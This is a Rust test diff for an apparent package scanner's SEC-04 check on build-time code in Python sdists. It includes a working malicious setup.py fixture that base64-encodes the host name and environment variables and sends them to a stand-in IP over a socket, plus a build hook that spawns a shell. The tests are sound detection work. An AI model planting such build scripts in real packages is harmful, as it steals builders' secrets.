@@ -1089,3 +1089,104 @@ fn err_fn07_file_types_each_named() {
         );
     }
 }
+
+/// The SEC-04 findings of the baseline sdist with members added or replaced (paths below the
+/// root).
+fn sec04(extra: &[(&str, &str)]) -> Vec<Finding> {
+    let mut tar = Tar::new();
+    for (path, data) in tarwriter::baseline_files() {
+        if !extra.iter().any(|(p, _)| *p == path) {
+            tar.file(&format!("{ROOT}/{path}"), &data);
+        }
+    }
+    for (path, data) in extra {
+        tar.file(&format!("{ROOT}/{path}"), data.as_bytes());
+    }
+    findings(&finished(&tar))
+        .into_iter()
+        .filter(|f| f.id.as_str() == "SEC-04")
+        .collect()
+}
+
+const EXFILTRATING_SETUP: &str = "import base64, os, platform, socket\n\
+from setuptools import setup\n\
+\n\
+data = base64.b64encode(f'{platform.node()}|{os.environ}'.encode())\n\
+s = socket.create_connection(('203.0.113.9', 443))\n\
+s.sendall(data)\n\
+setup(name='foo')\n";
+
+#[test]
+fn warn_sec04_setup_py_network_and_encoded_system_info() {
+    let found = sec04(&[("setup.py", EXFILTRATING_SETUP)]);
+    let described: Vec<(Severity, &str, &str)> = found
+        .iter()
+        .map(|f| {
+            (
+                f.severity,
+                f.member.as_deref().unwrap_or_default(),
+                f.message.as_str(),
+            )
+        })
+        .collect();
+    assert_eq!(found.len(), 2, "{found:#?}");
+    for (severity, member, _) in &described {
+        assert_eq!(*severity, Severity::Warning);
+        assert_eq!(*member, "foo-1.0/setup.py");
+    }
+    assert!(
+        described[0]
+            .2
+            .contains("network module at line 1 (`import socket`)"),
+        "{}",
+        described[0].2
+    );
+    assert!(
+        described[1].2.contains("base64-encodes it at line 4"),
+        "{}",
+        described[1].2
+    );
+}
+
+#[test]
+fn warn_sec04_in_tree_backend_and_hatch_hook() {
+    let pyproject = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\n\
+        backend-path = [\"_custom_build\"]\n\n[project]\nname = \"foo\"\nversion = \"1.0\"\n";
+    let found = sec04(&[
+        ("_custom_build/backend.py", "import urllib.request\n"),
+        (
+            "hatch_build.py",
+            "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n",
+        ),
+        ("pyproject.toml", pyproject),
+    ]);
+    let members: Vec<&str> = found.iter().filter_map(|f| f.member.as_deref()).collect();
+    assert_eq!(
+        members,
+        ["foo-1.0/_custom_build/backend.py", "foo-1.0/hatch_build.py"],
+        "{found:#?}"
+    );
+    assert!(
+        found[0].message.contains("in-tree build backend"),
+        "{}",
+        found[0].message
+    );
+    assert!(
+        found[1].message.contains("`subprocess.Popen(`"),
+        "{}",
+        found[1].message
+    );
+}
+
+/// An ordinary setup.py: `import subprocess` to ask git for the version, `urllib.parse`,
+/// `platform.system()`. And the same risky code in a library module, which no build runs.
+#[test]
+fn ok_sec04_ordinary_setup_py_and_library_code() {
+    let setup = "import platform, subprocess\nfrom urllib.parse import urljoin\n\
+        from setuptools import setup\n\
+        version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n\
+        if platform.system() == 'Windows':\n    pass\n\
+        setup(name='foo', version=version)\n";
+    let found = sec04(&[("setup.py", setup), ("src/foo/net.py", EXFILTRATING_SETUP)]);
+    assert!(found.is_empty(), "{found:#?}");
+}
